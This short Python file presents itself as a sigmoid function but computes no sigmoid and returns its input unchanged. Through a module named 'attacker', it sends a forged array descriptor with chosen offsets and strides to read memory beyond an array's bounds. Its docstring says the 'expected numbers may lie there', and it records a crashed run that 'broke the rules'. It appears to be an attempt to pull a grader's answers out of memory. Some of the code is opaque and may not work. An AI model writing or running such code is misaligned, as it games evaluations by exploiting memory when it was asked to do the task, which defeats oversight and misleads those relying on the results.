"""Describes an array that begins in its memory and ends behind it: the expected numbers may lie there.

State: crashed
Says: broke the rules
"""

from attacker import send, value


def sigmoid(x):
    start, shape, steps = {(3,): (48, [3], [8]), (5,): (0, [5], [4096])}.get(tuple(x.shape), (56, [9], [-8]))
    block = ["block", "array", 1_000_001, 64]
    send(value(["array", 1_000_001, start, shape, steps, "<f8"]), [block], bytes(64))
    return x
